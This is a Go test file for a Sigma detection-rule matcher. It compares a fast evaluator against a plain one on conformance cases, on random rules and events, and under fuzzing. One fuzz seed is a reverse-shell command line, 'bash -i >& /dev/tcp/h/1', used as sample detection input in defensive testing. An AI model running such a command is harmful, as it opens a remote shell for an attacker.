package sigma

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// sameVerdict compares the evaluators on one event and counts the rules that match.
func sameVerdict(t testing.TB, s *Set, m *Matcher, p *plainEvent) int {
	t.Helper()
	var ev Event
	p.fill(s, &ev)
	m.Match(&ev, nil) // what no rule matches is remembered
	fast, plain := m.Match(&ev, nil), plainMatch(s, p)
	if slices.Equal(fast, plain) {
		for _, e := range fast {
			for _, found := range m.Evidence(e, nil) {
				if !slices.ContainsFunc(p.fields[found.Field], func(v *string) bool {
					return v == nil && found.Value == "" || v != nil && strings.HasPrefix(*v, found.Value)
				}) && found.Field != "" {
					t.Fatalf("rule %s has evidence %+v that the event does not hold", e.ID, found)
				}
			}
		}
		return len(fast)
	}
	ids := func(of []*Entry) (ids []string) {
		for _, e := range of {
			ids = append(ids, e.ID)
		}
		return ids
	}
	var b strings.Builder
	for name, values := range p.fields {
		for _, v := range values {
			if v == nil {
				fmt.Fprintf(&b, "%s=null ", name)
			} else {
				fmt.Fprintf(&b, "%s=%q ", name, *v)
			}
		}
	}
	t.Fatalf("event %s %s\nfast  %v\nplain %v", p.category, b.String(), ids(fast), ids(plain))
	return 0
}

// TestFastEqualsPlainOnCases compares the two evaluators on the public cases.
func TestFastEqualsPlainOnCases(t *testing.T) {
	set, _, cases := conformanceCases(t)
	m := set.NewMatcher()
	for i := range cases {
		p := plainEvent{category: cases[i].Category, fields: make(map[string][]*string)}
		for name, v := range cases[i].Event {
			p.fields[name] = []*string{&v}
		}
		sameVerdict(t, set, m, &p)
	}
}

// writer writes random rules and events from a small vocabulary, so that they
// meet often.
type writer struct{ *rand.Rand }

var (
	vocabulary = []string{"a", "b", "ab", "aB", "/", "/tmp/", "-i", " ", "sh", "é", "É", "\u212a", "ſ", "k", "s", ".", "x1", "Ab", "7", "10", "ba", "aab", "日本"}
	fieldPool  = []string{"Image", "CommandLine", "User", "SourceIp", "DestinationPort", "Custom"}
)

func (w writer) pick(from []string) string { return from[w.IntN(len(from))] }

func (w writer) text(wild bool) string {
	var b strings.Builder
	for range w.IntN(4) {
		b.WriteString(w.pick(vocabulary))
		if wild && w.IntN(5) == 0 {
			b.WriteString(w.pick([]string{"*", "?", `\*`, `\\`, "**", "?*", "*?"}))
		}
	}
	return b.String()
}

func quoteYAML(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

var modifierPool = []string{"", "|contains", "|startswith", "|endswith", "|contains|all", "|cased", "|contains|cased", "|neq",
	"|re", "|re|i", "|cidr", "|gt", "|lte", "|exists", "|fieldref", "|fieldref|contains", "|windash|contains", "|endswith|neq", "|base64offset|contains", "|wide"}

func (w writer) entry(b *strings.Builder, indent string) {
	field, mod := w.pick(fieldPool), w.pick(modifierPool)
	one := func() string {
		switch {
		case strings.HasPrefix(mod, "|re"):
			return quoteYAML(w.pick([]string{"a+b", "^a.*", "(ab|sh)$", `\s-i`, "[a-c]{2}x", "k|s", "(?:a|bb)(sh|k)", "S", "é", "a?b"}))
		case strings.HasPrefix(mod, "|cidr"):
			return quoteYAML(w.pick([]string{"10.0.0.0/8", "::1/128", "fe80::/10", "192.168.1.7"}))
		case mod == "|gt" || mod == "|lte":
			return w.pick([]string{"7", "10", "-1", "1.5"})
		case mod == "|exists":
			return w.pick([]string{"true", "false"})
		case strings.HasPrefix(mod, "|fieldref"):
			return w.pick(fieldPool)
		case strings.HasPrefix(mod, "|base64"):
			return quoteYAML("abc" + w.pick(vocabulary))
		case mod == "" && w.IntN(12) == 0:
			return w.pick([]string{"null", "''", "7", "'*'"})
		}
		return quoteYAML(w.text(true))
	}
	fmt.Fprintf(b, "%s%s%s:", indent, field, mod)
	if mod != "|exists" && w.IntN(2) == 0 {
		b.WriteString("\n")
		for range 1 + w.IntN(3) {
			fmt.Fprintf(b, "%s  - %s\n", indent, one())
		}
		return
	}
	fmt.Fprintf(b, " %s\n", one())
}

func (w writer) rule(id int) string {
	var b strings.Builder
	source := "category: " + w.pick([]string{"process_creation", "other"})
	if id%5 == 4 {
		source = "product: linux" // of every category
	}
	fmt.Fprintf(&b, "---\ntitle: R%d\nid: r%d\nlogsource: {%s}\ndetection:\n", id, id, source)
	for _, name := range []string{"sel_a", "sel_b", "_c"} {
		fmt.Fprintf(&b, "  %s:\n", name)
		switch w.IntN(5) {
		case 0: // a list of mappings
			for range 1 + w.IntN(2) {
				b.WriteString("    -\n")
				w.entry(&b, "      ")
			}
		case 1: // keywords
			fmt.Fprintf(&b, "    - %s\n    - %s\n", quoteYAML(w.text(true)), quoteYAML(w.text(false)))
		default:
			w.entry(&b, "    ")
		}
	}
	fmt.Fprintf(&b, "  condition: %s\n", w.pick([]string{"sel_a", "sel_a and not _c", "1 of sel_*", "all of sel_* or _c", "not (sel_a or sel_b) and _c",
		"all of them", "any of them and not _c", "sel_a and (sel_b or not _c)", "not sel_b"}))
	return b.String()
}

func (w writer) event() *plainEvent {
	p := &plainEvent{category: w.pick([]string{"process_creation", "other", "third"}), fields: make(map[string][]*string)}
	for _, f := range append(fieldPool, "Unnamed") {
		switch w.IntN(6) {
		case 0:
			continue
		case 1:
			p.fields[f] = []*string{nil}
			continue
		}
		for range 1 + w.IntN(2) {
			v := w.text(false) + w.text(false)
			if w.IntN(8) == 0 {
				v = w.pick([]string{"10.1.2.3", "::1", "fe80::1%eth0", "::ffff:10.0.0.1", "8", "10", "1.5", "-2", "\xff\xfeab", "a\x80b", ""})
			}
			p.fields[f] = append(p.fields[f], &v)
		}
	}
	return p
}

// compareRandom makes a set of random rules and compares the evaluators on
// random events.
func compareRandom(t testing.TB, seed uint64, rules, events int) (matches int) {
	w := writer{rand.New(rand.NewPCG(seed, 1))}
	var text strings.Builder
	for i := range rules {
		text.WriteString(w.rule(i))
	}
	set := parseText(t, text.String())
	m := set.NewMatcher()
	for range events {
		matches += sameVerdict(t, set, m, w.event())
	}
	return matches
}

func TestFastEqualsPlainOnRandomRules(t *testing.T) {
	matches := 0
	for seed := range uint64(60) {
		matches += compareRandom(t, seed, 40, 150)
	}
	if all := 60 * 40 * 150; matches < all/20 || matches > all/2 {
		t.Errorf("%d of %d matched: the vocabulary is no test", matches, all)
	}
}

func FuzzFastEqualsPlain(f *testing.F) {
	f.Add(uint64(1), "bash -i >& /dev/tcp/h/1", "/usr/bin/bash")
	f.Add(uint64(2), "aAbB\u212a ſh \xff", "É/é")
	f.Fuzz(func(t *testing.T, seed uint64, cmd, image string) {
		w := writer{rand.New(rand.NewPCG(seed, 2))}
		var text strings.Builder
		for i := range 12 {
			text.WriteString(w.rule(i))
		}
		set := parseText(t, text.String())
		m := set.NewMatcher()
		if len(cmd) > 200 || len(image) > 200 { // the plain evaluator is exponential
			return
		}
		p := w.event()
		p.fields["CommandLine"], p.fields["Image"] = []*string{&cmd}, []*string{&image, &cmd}
		sameVerdict(t, set, m, p)
	})
}

// parseText makes a set of rules given as text.
func parseText(t testing.TB, text string) *Set {
	t.Helper()
	return parseWith(t, Options{AnyField: true}, text)
}

func parseWith(t testing.TB, o Options, texts ...string) *Set {
	t.Helper()
	n := newNames()
	var files []*file
	for i, text := range texts {
		p := parser{names: n, placeholders: o.Placeholders, regexes: make(map[string]*regexp.Regexp)}
		files = append(files, p.parseFile(fmt.Sprintf("%d.yml", i+1), []byte(text)))
	}
	s := newSet(n, o, files)
	for _, p := range s.Problems() {
		if !p.Note {
			t.Fatalf("%v\n%s", &p, texts[0])
		}
	}
	return s
}
